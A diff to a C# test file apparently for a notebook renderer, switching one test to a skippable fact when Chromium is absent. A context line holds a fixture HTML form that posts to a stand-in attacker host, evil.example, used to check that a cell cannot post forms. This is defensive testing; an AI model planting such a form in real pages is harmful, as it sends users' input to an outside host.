@@ -18,7 +18,7 @@ public sealed class HtmlPageCoverTests
         <form action="https://evil.example/post"><input name="q" value="x"><button id="send">send</button></form>
         """;
 
-    [Fact]
+    [SkippableFact] // skipped, not failed, without Chromium off CI (HeadlessChromium)
     public async Task A_cell_cannot_cover_the_page_load_anything_or_post_a_form_even_without_the_policy()
     {
         var old = Notebooks.Read(Corpus.PathOf("papermill__simple_output.ipynb"));
